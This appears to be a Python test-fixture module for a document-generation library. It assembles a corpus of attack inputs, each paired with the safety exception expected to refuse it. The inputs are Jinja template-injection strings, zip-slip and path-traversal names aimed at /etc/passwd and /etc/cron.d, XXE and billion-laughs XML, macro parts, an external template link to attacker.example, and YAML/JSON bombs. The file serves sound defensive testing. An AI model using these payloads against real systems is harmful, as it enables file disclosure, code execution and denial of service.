"""Attack payloads, built at test time, each with the refusal it must get.

``PAYLOADS`` maps a name to an :class:`Attack`: the class of attack, what it
targets (``docx`` upload, ``name``, ``template`` source, ``yaml``/``json``
body, ``render`` of a template), the payload, and the exception class
(:mod:`docgen.safety`) that must refuse it.  ``tests/test_safety.py`` checks
them against the library; ``tests/test_attack_corpus.py`` replays them
against a running server.
"""

from __future__ import annotations

import io
import re
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from docgen import safety

SAMPLE = Path(__file__).resolve().parents[2] / "templates" / "letters" / "office-letter.docx"


@dataclass(frozen=True)
class Attack:
    group: str  # injection, traversal, zip-bomb, xml, macro, external, yaml-bomb, oversize, encoding
    target: str  # docx, name, template, yaml, json, render
    payload: Any
    refused_by: type  # a docgen.safety.Refused subclass


def docx_with(extra: dict[str, bytes] | None = None, replace: dict[str, bytes] | None = None,
              compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The sample template with parts added or replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(SAMPLE.read_bytes())) as source, \
            zipfile.ZipFile(out, "w", compression) as target:
        for item in source.infolist():
            data = (replace or {}).get(item.filename, source.read(item.filename))
            target.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            target.writestr(name, data)
    return out.getvalue()


def template_docx(jinja: str) -> bytes:
    """The sample template with ``jinja`` as its first paragraph's text."""
    document = zipfile.ZipFile(io.BytesIO(SAMPLE.read_bytes())).read("word/document.xml").decode()
    start = re.search(r"<w:t(?: [^>]*)?>", document).end()
    end = document.index("</w:t>", start)
    escaped = jinja.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return docx_with(replace={"word/document.xml": (document[:start] + escaped + document[end:]).encode()})


def _bomb_part(size: int) -> bytes:
    return b"\0" * size


BILLION_LAUGHS_XML = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>"""
XXE_XML = b"""<?xml version="1.0"?>
<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body></w:document>"""
EXTERNAL_TEMPLATE_RELS = b"""<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.example/t.dotm" TargetMode="External"/></Relationships>"""
FILE_LINK_RELS = EXTERNAL_TEMPLATE_RELS.replace(b"http://attacker.example/t.dotm", b"file:///etc/passwd").replace(
    b"attachedTemplate", b"image")


def _macro_content_types() -> bytes:
    types = zipfile.ZipFile(io.BytesIO(SAMPLE.read_bytes())).read("[Content_Types].xml")
    return types.replace(b"wordprocessingml.document.main+xml", b"ms-word.document.macroEnabled.main+xml")


def _yaml_billion_laughs(levels: int = 10) -> str:
    lines = ['a0: &a0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 9) + "]" for i in range(1, levels)]
    return "kind: letter\n" + "\n".join(lines) + "\n"


def payloads() -> dict[str, Attack]:
    """Every attack, by name (built on call: some are megabytes)."""
    s = safety
    return {
        # template injection (source checks, and a render of the uploaded template)
        "tpl-class-mro": Attack("injection", "template", "{{ ''.__class__.__mro__[1].__subclasses__() }}", s.UnsafeTemplate),
        "tpl-cycler-globals": Attack("injection", "template", "{{ cycler.__init__.__globals__ }}", s.UnsafeTemplate),
        "tpl-range-bomb": Attack("injection", "template", "{% for x in range(10**9) %}x{% endfor %}", s.UnsafeTemplate),
        "tpl-string-bomb": Attack("injection", "template", "{{ 'a' * 10**9 }}", s.UnsafeTemplate),
        "tpl-pow-bomb": Attack("injection", "template", "{{ 9 ** 999999 }}", s.UnsafeTemplate),
        "tpl-format-width": Attack("injection", "template", "{{ '{:>999999999}'.format(1) }}", s.UnsafeTemplate),
        "tpl-include-file": Attack("injection", "template", "{% include '/etc/passwd' %}", s.UnsafeTemplate),
        "tpl-getitem-dunder": Attack("injection", "template", "{{ subject['__class__'] }}", s.UnsafeTemplate),
        "tpl-in-docx": Attack("injection", "docx-template", template_docx("{{ ''.__class__.__mro__ }}"), s.UnsafeTemplate),
        "tpl-syntax": Attack("injection", "template", "{% for %}", s.UnsafeTemplate),
        # path traversal in names
        "name-dotdot": Attack("traversal", "name", "../../etc/passwd", s.UnsafeName),
        "name-absolute": Attack("traversal", "name", "/etc/passwd", s.UnsafeName),
        "name-backslash": Attack("traversal", "name", "..\\..\\windows\\win.ini", s.UnsafeName),
        "name-nul": Attack("traversal", "name", "letter.docx\x00.png", s.UnsafeName),
        "name-reserved": Attack("traversal", "name", "CON.docx", s.UnsafeName),
        "name-drive": Attack("traversal", "name", "C:letter.docx", s.UnsafeName),
        # uploaded DOCX
        "zip-not-a-zip": Attack("zip-bomb", "docx", b"PK\x03\x04 but not a zip" * 10, s.UnsafeDocument),
        "zip-bomb-ratio": Attack("zip-bomb", "docx", docx_with({"word/media/bomb.bin": _bomb_part(15 << 20)}), s.TooLarge),
        "zip-bomb-total": Attack("zip-bomb", "docx", docx_with({f"word/media/b{i}.bin": _bomb_part(9 << 20) for i in range(7)}), s.TooLarge),
        "zip-many-entries": Attack("zip-bomb", "docx", docx_with({f"customXml/i{i}.txt": b"x" for i in range(1200)}), s.TooLarge),
        "zip-nested": Attack("zip-bomb", "docx", docx_with({"word/embeddings/inner.zip": docx_with()}), s.UnsafeDocument),
        "zip-slip": Attack("traversal", "docx", docx_with({"../../evil.sh": b"echo owned"}), s.UnsafeDocument),
        "zip-absolute": Attack("traversal", "docx", docx_with({"/etc/cron.d/evil": b"x"}), s.UnsafeDocument),
        "xml-billion-laughs": Attack("xml", "docx", docx_with(replace={"word/document.xml": BILLION_LAUGHS_XML}), s.UnsafeDocument),
        "xml-xxe": Attack("xml", "docx", docx_with(replace={"word/document.xml": XXE_XML}), s.UnsafeDocument),
        "xml-malformed": Attack("xml", "docx", docx_with(replace={"word/document.xml": b"<w:document"}), s.UnsafeDocument),
        "docm-vba": Attack("macro", "docx", docx_with({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\0" * 100}), s.UnsafeDocument),
        "docm-content-type": Attack("macro", "docx", docx_with(replace={"[Content_Types].xml": _macro_content_types()}), s.UnsafeDocument),
        "activex": Attack("macro", "docx", docx_with({"word/activeX/activeX1.xml": b"<ax/>"}), s.UnsafeDocument),
        "external-template": Attack("external", "docx", docx_with({"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE_RELS}), s.UnsafeDocument),
        "external-file-link": Attack("external", "docx", docx_with({"word/_rels/footer9.xml.rels": FILE_LINK_RELS}), s.UnsafeDocument),
        "docx-missing-body": Attack("zip-bomb", "docx", _zip({"[Content_Types].xml": b"<Types/>"}), s.UnsafeDocument),
        # request bodies
        "yaml-billion-laughs": Attack("yaml-bomb", "yaml", _yaml_billion_laughs().encode(), s.BadPayload),
        "yaml-many-aliases": Attack("yaml-bomb", "yaml", ("a: &a x\nb: [" + ", ".join(["*a"] * 1500) + "]\n").encode(), s.BadPayload),
        "yaml-deep-nesting": Attack("yaml-bomb", "yaml", ("a: " + "[" * 5000 + "]" * 5000 + "\n").encode(), s.BadPayload),
        "yaml-oversized": Attack("oversize", "yaml", b"body:\n" + b"  - paragraph\n" * 200_000, s.TooLarge),
        "yaml-invalid-utf8": Attack("encoding", "yaml", b"subject: \xff\xfe\xc3\x28\n", s.BadPayload),
        "yaml-not-a-mapping": Attack("encoding", "yaml", b"- just\n- a list\n", s.BadPayload),
        "json-deep-nesting": Attack("yaml-bomb", "json", b"[" * 100_000 + b"]" * 100_000, s.BadPayload),
        "json-oversized": Attack("oversize", "json", b'{"body": ["' + b"x" * (2 << 20) + b'"]}', s.TooLarge),
        "json-huge-number": Attack("oversize", "json", b'{"register": ' + b"9" * 100_000 + b"}", s.BadPayload),
        "json-invalid-utf8": Attack("encoding", "json", b'{"subject": "\xed\xa0\x80"}', s.BadPayload),
        "json-nul": Attack("encoding", "json", b'{"subject": "a\x00b"}', s.BadPayload),
    }


def _zip(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def refusal(attack: Attack) -> Exception | None:
    """What the library does with the attack: the exception it raised, or None."""
    try:
        if attack.target == "docx":
            safety.check_docx(attack.payload)
        elif attack.target == "docx-template":
            safety.check_template_source(attack.payload)
        elif attack.target == "name":
            safety.safe_name(attack.payload)
        elif attack.target == "template":
            safety.check_template_source(attack.payload)
        else:
            safety.load_payload(attack.payload, f"application/{attack.target}")
    except safety.Refused as error:
        return error
    return None
